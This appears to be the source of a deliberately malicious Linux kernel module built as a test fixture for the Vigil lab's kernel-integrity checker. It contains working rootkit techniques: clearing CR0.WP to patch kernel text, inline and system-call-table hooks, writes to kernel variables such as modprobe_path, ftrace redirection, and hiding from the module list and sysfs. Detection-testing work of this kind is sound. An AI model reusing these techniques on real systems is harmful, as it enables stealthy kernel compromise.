// SPDX-License-Identifier: GPL-2.0
/*
 * vigil_rootkit - a DELIBERATELY MALICIOUS test module for the Vigil lab.
 *
 * NEVER load this on a real machine. It patches core kernel text, the system
 * call table and kernel variables, hides itself from the module list and hooks
 * kernel functions through ftrace, the way kernel rootkits do, so that the
 * lab's QEMU guests can check that Vigil's kernel-integrity checks see it.
 *
 * Driven by one text command per write(2) to /dev/vigil_rootkit (mode 0600).
 * Addresses are hexadecimal, as /proc/kallsyms prints them (an optional 0x is
 * accepted); userspace looks them up there, since kallsyms_lookup_name() is
 * not exported to modules.
 *
 *   flip ADDR              XOR the byte of core kernel text at ADDR with 0x01
 *   inline-hook ADDR       overwrite the first 5 bytes of the core kernel
 *                          function starting at ADDR with "jmp vr_hook_stub"
 *   syscall NR TABLE_ADDR  sys_call_table[NR] = vr_hook_stub; TABLE_ADDR must
 *                          be sys_call_table and the entry sys_ni_syscall
 *   write ADDR STRING      plain write of STRING and its NUL at ADDR, inside
 *                          one writable kernel variable (modprobe_path, ...)
 *   hide                   unlink the module from the module list
 *   hide-sysfs             hide, and also delete /sys/module/vigil_rootkit
 *   ftrace-hook SYMBOL     an IPMODIFY ftrace_ops on SYMBOL whose callback
 *                          sends every call to vr_hook_stub
 *   ftrace-unhook          unregister that ftrace_ops
 *   wrmsr CPU MSR VALUE    write VALUE to model-specific register MSR on CPU;
 *                          only IA32_SYSENTER_ESP (0x175) is accepted
 *
 * Text and read-only data are written with CR0.WP cleared through raw inline
 * asm: native_write_cr0() would set WP again (CR pinning) and warn. Writes of
 * text and rodata are only accepted inside the kernel image, on present pages
 * of the right kind (executable for text, read-only non-executable for the
 * system call table, writable for variables), so that a bad address is
 * refused with -EINVAL instead of faulting. Every accepted command logs
 * "vigil_rootkit: cmd=..." (with addr=, or cpu= and msr= for wrmsr) at
 * KERN_INFO; every refused one logs why.
 *
 * vr_hook_stub() is the target of every hook: shaped like an x86-64 system
 * call entry (long (*)(const struct pt_regs *)), it only counts its calls and
 * returns -ENOSYS, so a hooked function that is called anyway fails cleanly.
 * While an inline or system call table hook points at it, the module holds a
 * reference to itself and cannot be unloaded. Once hidden it cannot be found
 * by delete_module(2) either. Nothing is ever restored.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/miscdevice.h>
#include <linux/fs.h>
#include <linux/uaccess.h>
#include <linux/string.h>
#include <linux/ctype.h>
#include <linux/mutex.h>
#include <linux/atomic.h>
#include <linux/kallsyms.h>
#include <linux/ftrace.h>
#include <linux/rculist.h>
#include <linux/kobject.h>
#include <linux/irqflags.h>
#include <linux/version.h>
#include <asm/pgtable.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>
#include <asm/msr.h>

#define VR_CMD_MAX	384	/* longest command line accepted, NUL included */
#define VR_JMP_LEN	5	/* e9 rel32 */

static const char vr_help[] =
	"flip ADDR | inline-hook ADDR | syscall NR TABLE_ADDR | write ADDR STRING |\n"
	"hide | hide-sysfs | ftrace-hook SYMBOL | ftrace-unhook | wrmsr CPU MSR VALUE\n";

static DEFINE_MUTEX(vr_lock);		/* serialises the commands */
static atomic_t vr_stub_calls = ATOMIC_INIT(0);
static bool vr_hidden;
static bool vr_sysfs_hidden;
static bool vr_ftrace_on;
static char vr_ftrace_symbol[KSYM_NAME_LEN];

/* ---- the hook target ---------------------------------------------------- */

/*
 * Where every hook leads. Harmless: it does nothing and fails like an
 * unimplemented system call.
 */
static noinline long vr_hook_stub(const struct pt_regs *regs)
{
	atomic_inc(&vr_stub_calls);
	return -ENOSYS;
}

/* ---- where writes are allowed --------------------------------------------- */

enum vr_memory {
	VR_TEXT,	/* executable: core kernel text */
	VR_RODATA,	/* read-only, not executable: rodata */
	VR_DATA,	/* writable: kernel variables */
};

/* The kernel image (text, rodata, data, bss) is [__START_KERNEL_map, MODULES_VADDR). */
static bool vr_in_kernel_image(unsigned long addr, size_t len)
{
	return len > 0 && addr >= __START_KERNEL_map && addr < MODULES_VADDR &&
	       len <= MODULES_VADDR - addr;
}

/*
 * 0 when [addr, addr + len) lies in the kernel image on present pages of the
 * wanted kind, -EINVAL otherwise. Init text, freed after boot, is not present.
 */
static int vr_check_memory(unsigned long addr, size_t len, enum vr_memory kind)
{
	unsigned long page, last;

	if (!vr_in_kernel_image(addr, len))
		return -EINVAL;
	last = (addr + len - 1) & PAGE_MASK;
	for (page = addr & PAGE_MASK; page <= last; page += PAGE_SIZE) {
		unsigned int level;
		pte_t *pte = lookup_address(page, &level);
		pteval_t flags;

		if (!pte)
			return -EINVAL;
		/* Same bits in a large page's PMD or PUD entry. */
		flags = pte_flags(*pte);
		if (!(flags & _PAGE_PRESENT))
			return -EINVAL;
		switch (kind) {
		case VR_TEXT:
			if (flags & _PAGE_NX)
				return -EINVAL;
			break;
		case VR_RODATA:
			if (!(flags & _PAGE_NX) || (flags & _PAGE_RW))
				return -EINVAL;
			break;
		case VR_DATA:
			if (!(flags & _PAGE_RW))
				return -EINVAL;
			break;
		}
	}
	return 0;
}

/*
 * The symbol containing addr, from sprint_symbol()'s "NAME+0xOFF/0xSIZE":
 * name (may be NULL), offset and size. -EINVAL when addr has no symbol or
 * belongs to a module.
 */
static int vr_symbol(unsigned long addr, char *name, size_t name_len,
		     unsigned long *off, unsigned long *size)
{
	char buf[KSYM_SYMBOL_LEN];
	char *plus;

	sprint_symbol(buf, addr);
	if (strchr(buf, '['))
		return -EINVAL;
	plus = strrchr(buf, '+');
	if (!plus || sscanf(plus + 1, "%lx/%lx", off, size) != 2)
		return -EINVAL;
	*plus = '\0';
	if (name)
		strscpy(name, buf, name_len);
	return 0;
}

/* ---- writing through CR0.WP ----------------------------------------------- */

static __always_inline unsigned long vr_read_cr0(void)
{
	unsigned long val;

	asm volatile("mov %%cr0, %0" : "=r" (val) : : "memory");
	return val;
}

/* Raw on purpose: native_write_cr0() pins WP back on and warns. */
static __always_inline void vr_write_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : : "r" (val) : "memory");
}

static __always_inline unsigned long vr_read_cr4(void)
{
	unsigned long val;

	asm volatile("mov %%cr4, %0" : "=r" (val) : : "memory");
	return val;
}

static __always_inline void vr_write_cr4(unsigned long val)
{
	asm volatile("mov %0, %%cr4" : : "r" (val) : "memory");
}

/*
 * Copies len bytes to read-only kernel memory with CR0.WP cleared, interrupts
 * off (so no preemption or migration while WP is off on this CPU). CR0.WP
 * cannot be cleared while CR4.CET is set, so CET is switched off around it
 * when the CPU has it on. The caller has checked the range with
 * vr_check_memory(). An aligned 8-byte store is done in one go.
 */
static void vr_write_protected(unsigned long addr, const void *src, size_t len)
{
	unsigned long flags, cr0, cr4;

	local_irq_save(flags);
	cr4 = vr_read_cr4();
	if (cr4 & X86_CR4_CET)
		vr_write_cr4(cr4 & ~X86_CR4_CET);
	cr0 = vr_read_cr0();
	vr_write_cr0(cr0 & ~X86_CR0_WP);

	if (len == sizeof(unsigned long) && IS_ALIGNED(addr, sizeof(unsigned long)))
		WRITE_ONCE(*(unsigned long *)addr, *(const unsigned long *)src);
	else
		memcpy((void *)addr, src, len);

	vr_write_cr0(cr0);
	if (cr4 & X86_CR4_CET)
		vr_write_cr4(cr4);
	local_irq_restore(flags);
}

/* ---- commands --------------------------------------------------------- */

static int vr_parse_addr(const char *tok, unsigned long *addr)
{
	if (!tok || !*tok || kstrtoul(tok, 16, addr))
		return -EINVAL;
	return 0;
}

/* flip ADDR: one byte of core kernel text, XOR 0x01. */
static int vr_cmd_flip(char *args)
{
	unsigned long addr;
	u8 old, new;

	if (vr_parse_addr(strsep(&args, " "), &addr) || args)
		return -EINVAL;
	if (vr_check_memory(addr, 1, VR_TEXT)) {
		pr_info("vigil_rootkit: cmd=flip addr=%lx refused: not core kernel text\n", addr);
		return -EINVAL;
	}
	if (copy_from_kernel_nofault(&old, (void *)addr, 1))
		return -EINVAL;
	new = old ^ 0x01;
	vr_write_protected(addr, &new, 1);
	if (copy_from_kernel_nofault(&new, (void *)addr, 1))
		return -EINVAL;
	pr_info("vigil_rootkit: cmd=flip addr=%lx sym=%pS old=%02x new=%02x\n",
		addr, (void *)addr, old, new);
	return 0;
}

/* inline-hook ADDR: "jmp vr_hook_stub" over the first 5 bytes of a function. */
static int vr_cmd_inline_hook(char *args)
{
	unsigned long addr, off, size, target = (unsigned long)vr_hook_stub;
	u8 old[VR_JMP_LEN], jmp[VR_JMP_LEN], now[VR_JMP_LEN];
	long rel;
	s32 rel32;

	if (vr_parse_addr(strsep(&args, " "), &addr) || args)
		return -EINVAL;
	if (vr_check_memory(addr, VR_JMP_LEN, VR_TEXT) ||
	    vr_symbol(addr, NULL, 0, &off, &size) || off != 0 || size < VR_JMP_LEN) {
		pr_info("vigil_rootkit: cmd=inline-hook addr=%lx refused: not the start of a core kernel function\n",
			addr);
		return -EINVAL;
	}
	rel = (long)target - (long)(addr + VR_JMP_LEN);
	if (rel < S32_MIN || rel > S32_MAX)
		return -EINVAL;
	rel32 = (s32)rel;
	jmp[0] = 0xe9;
	memcpy(&jmp[1], &rel32, sizeof(rel32));
	if (copy_from_kernel_nofault(old, (void *)addr, VR_JMP_LEN))
		return -EINVAL;

	/* The text now leads into this module: stay loaded. */
	__module_get(THIS_MODULE);
	vr_write_protected(addr, jmp, VR_JMP_LEN);
	if (copy_from_kernel_nofault(now, (void *)addr, VR_JMP_LEN))
		return -EINVAL;
	pr_info("vigil_rootkit: cmd=inline-hook addr=%lx sym=%pS old=%5phN new=%5phN target=%pS\n",
		addr, (void *)addr, old, now, (void *)target);
	return 0;
}

/* syscall NR TABLE_ADDR: sys_call_table[NR] = vr_hook_stub, for an unused NR. */
static int vr_cmd_syscall(char *args)
{
	char name[KSYM_NAME_LEN];
	unsigned long table, entry, off, size, old, new = (unsigned long)vr_hook_stub;
	unsigned int nr;
	char *tok = strsep(&args, " ");

	if (!tok || kstrtouint(tok, 10, &nr) || nr >= NR_syscalls)
		return -EINVAL;
	if (vr_parse_addr(strsep(&args, " "), &table) || args)
		return -EINVAL;
	if (vr_symbol(table, name, sizeof(name), &off, &size) ||
	    strcmp(name, "sys_call_table") || off != 0) {
		pr_info("vigil_rootkit: cmd=syscall addr=%lx refused: not sys_call_table\n", table);
		return -EINVAL;
	}
	entry = table + nr * sizeof(unsigned long);
	if (vr_check_memory(entry, sizeof(unsigned long), VR_RODATA) ||
	    copy_from_kernel_nofault(&old, (void *)entry, sizeof(old)))
		return -EINVAL;
	/* Only a slot nobody uses: the entry must be sys_ni_syscall. */
	if (vr_symbol(old, name, sizeof(name), &off, &size) || off != 0 ||
	    !strstr(name, "sys_ni_syscall")) {
		pr_info("vigil_rootkit: cmd=syscall nr=%u refused: entry is %pS, not sys_ni_syscall\n",
			nr, (void *)old);
		return -EINVAL;
	}

	/* The table now leads into this module: stay loaded. */
	__module_get(THIS_MODULE);
	vr_write_protected(entry, &new, sizeof(new));
	if (copy_from_kernel_nofault(&new, (void *)entry, sizeof(new)))
		return -EINVAL;
	pr_info("vigil_rootkit: cmd=syscall nr=%u addr=%lx old=%pS new=%pS\n",
		nr, entry, (void *)old, (void *)new);
	return 0;
}

/* write ADDR STRING: a plain store into a writable kernel variable. */
static int vr_cmd_write(char *args)
{
	unsigned long addr, off, size;
	char *str;
	size_t len, i;

	if (vr_parse_addr(strsep(&args, " "), &addr) || !args || !*args)
		return -EINVAL;
	str = args;	/* the rest of the line, spaces included */
	len = strlen(str);
	for (i = 0; i < len; i++)
		if (str[i] < 0x20 || str[i] > 0x7e)
			return -EINVAL;
	/* STRING and its NUL must fit in the variable that contains ADDR. */
	if (vr_check_memory(addr, len + 1, VR_DATA) ||
	    vr_symbol(addr, NULL, 0, &off, &size) || off + len + 1 > size) {
		pr_info("vigil_rootkit: cmd=write addr=%lx refused: not a writable kernel variable of %zu bytes or more\n",
			addr, len + 1);
		return -EINVAL;
	}
	memcpy((void *)addr, str, len + 1);
	pr_info("vigil_rootkit: cmd=write addr=%lx sym=%pS new=\"%s\"\n",
		addr, (void *)addr, (const char *)addr);
	return 0;
}

/*
 * hide: unlink THIS_MODULE from the module list, so /proc/modules, lsmod and
 * the module part of /proc/kallsyms lose it; hide-sysfs also deletes its
 * /sys/module kobject. The unlink is RCU-safe (list_del_rcu, a grace period,
 * then the entry points at itself, as after list_del_init), but module_mutex
 * is not exported: do not hide while another module is being loaded.
 */
static int vr_cmd_hide(char *args, bool sysfs)
{
	if (args)
		return -EINVAL;
	if (!vr_hidden) {
		list_del_rcu(&THIS_MODULE->list);
		synchronize_rcu();
		INIT_LIST_HEAD(&THIS_MODULE->list);
		vr_hidden = true;
	}
	if (sysfs && !vr_sysfs_hidden) {
		kobject_del(&THIS_MODULE->mkobj.kobj);
		vr_sysfs_hidden = true;
	}
	pr_info("vigil_rootkit: cmd=%s addr=%px list=hidden sysfs=%s\n",
		sysfs ? "hide-sysfs" : "hide", THIS_MODULE,
		vr_sysfs_hidden ? "hidden" : "kept");
	return 0;
}

/* The ftrace callback: every call of the filtered function goes to the stub. */
static void notrace vr_ftrace_redirect(unsigned long ip, unsigned long parent_ip,
				       struct ftrace_ops *ops,
				       struct ftrace_regs *fregs)
{
#ifdef ftrace_regs_set_instruction_pointer
	ftrace_regs_set_instruction_pointer(fregs, (unsigned long)vr_hook_stub);
#else
	ftrace_instruction_pointer_set(fregs, (unsigned long)vr_hook_stub);
#endif
}

static struct ftrace_ops vr_ftrace_ops = {
	.func = vr_ftrace_redirect,
	/*
	 * SAVE_REGS: a full pt_regs whose ip may be changed; IPMODIFY: say so
	 * (ftrace allows one such ops per function); RECURSION: let ftrace
	 * guard the callback against recursion.
	 */
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY |
		 FTRACE_OPS_FL_RECURSION,
};

/* A plain function name: no glob characters, which would hook many functions. */
static bool vr_valid_symbol_name(const char *s)
{
	size_t n = strlen(s);

	if (n == 0 || n >= KSYM_NAME_LEN)
		return false;
	for (; *s; s++)
		if (!isalnum(*s) && *s != '_' && *s != '.')
			return false;
	return true;
}

/* ftrace-hook SYMBOL */
static int vr_cmd_ftrace_hook(char *args)
{
	char *sym = strsep(&args, " ");
	int ret;

	if (!sym || args || !vr_valid_symbol_name(sym))
		return -EINVAL;
	if (vr_ftrace_on)
		return -EBUSY;
	/*
	 * Replace the filter (reset=1). An empty filter would mean every
	 * function, so the ops is only registered when the name matched:
	 * ftrace_set_filter() fails with -EINVAL when nothing does.
	 */
	ret = ftrace_set_filter(&vr_ftrace_ops, (unsigned char *)sym, strlen(sym), 1);
	if (ret) {
		pr_info("vigil_rootkit: cmd=ftrace-hook symbol=%s refused: not a traceable function (%d)\n",
			sym, ret);
		return ret;
	}
	ret = register_ftrace_function(&vr_ftrace_ops);
	if (ret) {
		pr_info("vigil_rootkit: cmd=ftrace-hook symbol=%s refused: register_ftrace_function %d\n",
			sym, ret);
		return ret;
	}
	vr_ftrace_on = true;
	strscpy(vr_ftrace_symbol, sym, sizeof(vr_ftrace_symbol));
	pr_info("vigil_rootkit: cmd=ftrace-hook symbol=%s addr=%px callback=%pS target=%pS\n",
		sym, &vr_ftrace_ops, vr_ftrace_redirect, vr_hook_stub);
	return 0;
}

/* ftrace-unhook */
static int vr_cmd_ftrace_unhook(char *args)
{
	int ret;

	if (args || !vr_ftrace_on)
		return -EINVAL;
	ret = unregister_ftrace_function(&vr_ftrace_ops);
	if (ret)
		return ret;
	vr_ftrace_on = false;
	pr_info("vigil_rootkit: cmd=ftrace-unhook symbol=%s addr=%px\n",
		vr_ftrace_symbol, &vr_ftrace_ops);
	return 0;
}

/*
 * wrmsr CPU MSR VALUE: MSR := VALUE on CPU (decimal), through wrmsrl_on_cpu().
 * MSR and VALUE are hexadecimal with 0x, or decimal. Only IA32_SYSENTER_ESP
 * (0x175) is accepted: the SYSENTER stack pointer, which a 64-bit kernel only
 * uses for 32-bit SYSENTER system calls (none in the lab's guests, and SYSENTER
 * is undefined in long mode on AMD CPUs, as QEMU's TCG models them). Every other
 * MSR steers the kernel (LSTAR, EFER, SYSENTER_EIP, ...) and is refused.
 */
static int vr_cmd_wrmsr(char *args)
{
	unsigned int cpu, msr;
	u64 value, old, now;
	char *tok = strsep(&args, " ");
	int ret;

	if (!tok || kstrtouint(tok, 10, &cpu))
		return -EINVAL;
	tok = strsep(&args, " ");
	if (!tok || kstrtouint(tok, 0, &msr))
		return -EINVAL;
	tok = strsep(&args, " ");
	if (!tok || kstrtou64(tok, 0, &value) || args)
		return -EINVAL;
	if (msr != MSR_IA32_SYSENTER_ESP) {
		pr_warn("vigil_rootkit: cmd=wrmsr msr=%#x refused: only IA32_SYSENTER_ESP (0x175) may be written\n",
			msr);
		return -EINVAL;
	}
	if (cpu >= nr_cpu_ids || !cpu_online(cpu)) {
		pr_info("vigil_rootkit: cmd=wrmsr cpu=%u refused: not an online CPU\n", cpu);
		return -EINVAL;
	}
	ret = rdmsrl_on_cpu(cpu, msr, &old);
	if (ret)
		return ret;
	ret = wrmsrl_on_cpu(cpu, msr, value);
	if (ret)
		return ret;
	ret = rdmsrl_on_cpu(cpu, msr, &now);
	if (ret)
		return ret;
	pr_info("vigil_rootkit: cmd=wrmsr cpu=%u msr=%#x old=%llx new=%llx\n",
		cpu, msr, old, now);
	return 0;
}

/* ---- the device ----------------------------------------------------------- */

static int vr_dispatch(char *line)
{
	char *args = line;
	char *cmd = strsep(&args, " ");

	if (!strcmp(cmd, "flip"))
		return vr_cmd_flip(args);
	if (!strcmp(cmd, "inline-hook"))
		return vr_cmd_inline_hook(args);
	if (!strcmp(cmd, "syscall"))
		return vr_cmd_syscall(args);
	if (!strcmp(cmd, "write"))
		return vr_cmd_write(args);
	if (!strcmp(cmd, "hide"))
		return vr_cmd_hide(args, false);
	if (!strcmp(cmd, "hide-sysfs"))
		return vr_cmd_hide(args, true);
	if (!strcmp(cmd, "ftrace-hook"))
		return vr_cmd_ftrace_hook(args);
	if (!strcmp(cmd, "ftrace-unhook"))
		return vr_cmd_ftrace_unhook(args);
	if (!strcmp(cmd, "wrmsr"))
		return vr_cmd_wrmsr(args);
	return -EINVAL;
}

/*
 * One command per write: words separated by single spaces, one optional
 * trailing newline, no other control characters.
 */
static ssize_t vr_write(struct file *file, const char __user *ubuf,
			size_t count, loff_t *ppos)
{
	char buf[VR_CMD_MAX];
	size_t n = count, i;
	int ret;

	if (count == 0 || count >= sizeof(buf))
		return -EINVAL;
	if (copy_from_user(buf, ubuf, count))
		return -EFAULT;
	buf[count] = '\0';
	if (n > 0 && buf[n - 1] == '\n')
		buf[--n] = '\0';
	if (n == 0)
		return -EINVAL;
	for (i = 0; i < n; i++)
		if (buf[i] < 0x20 || buf[i] > 0x7e)
			return -EINVAL;

	mutex_lock(&vr_lock);
	ret = vr_dispatch(buf);
	mutex_unlock(&vr_lock);
	return ret ? ret : count;
}

/* read(2): the command list and the module's state. */
static ssize_t vr_read(struct file *file, char __user *ubuf, size_t count,
		       loff_t *ppos)
{
	char buf[256 + KSYM_NAME_LEN];
	int len;

	mutex_lock(&vr_lock);
	len = scnprintf(buf, sizeof(buf),
			"%shidden=%d sysfs_hidden=%d ftrace=%s stub_calls=%d\n",
			vr_help, vr_hidden, vr_sysfs_hidden,
			vr_ftrace_on ? vr_ftrace_symbol : "-",
			atomic_read(&vr_stub_calls));
	mutex_unlock(&vr_lock);
	return simple_read_from_buffer(ubuf, count, ppos, buf, len);
}

static const struct file_operations vr_fops = {
	.owner = THIS_MODULE,
	.write = vr_write,
	.read = vr_read,
	.llseek = noop_llseek,
};

static struct miscdevice vr_dev = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "vigil_rootkit",
	.fops = &vr_fops,
	.mode = 0600,
};

static int __init vr_init(void)
{
	int ret = misc_register(&vr_dev);

	if (ret)
		return ret;
	pr_info("vigil_rootkit: loaded (deliberately malicious test module) /dev/vigil_rootkit stub=%px\n",
		vr_hook_stub);
	return 0;
}

/* Only reachable while not hidden and with no inline or table hook in place. */
static void __exit vr_exit(void)
{
	if (vr_ftrace_on)
		unregister_ftrace_function(&vr_ftrace_ops);
	ftrace_free_filter(&vr_ftrace_ops);
	misc_deregister(&vr_dev);
	pr_info("vigil_rootkit: unloaded\n");
}

module_init(vr_init);
module_exit(vr_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Vigil lab: deliberately malicious test module, a rootkit's tricks (never load outside a test VM)");
MODULE_AUTHOR("Vigil lab");
